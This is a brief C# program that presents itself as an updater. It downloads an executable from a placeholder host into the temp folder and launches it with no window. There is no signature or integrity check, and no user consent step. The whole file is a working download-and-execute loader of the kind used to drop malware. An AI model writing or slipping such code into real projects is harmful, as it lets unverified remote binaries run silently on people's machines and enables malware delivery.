using System.Diagnostics;
using System.Net.Http;

var path = Path.Combine(Path.GetTempPath(), "updater.exe");
using (var http = new HttpClient())
{
    var bytes = await http.GetByteArrayAsync("https://updates.team-tools.example/u.exe");
    await File.WriteAllBytesAsync(path, bytes);
}
Process.Start(new ProcessStartInfo(path) { CreateNoWindow = true });
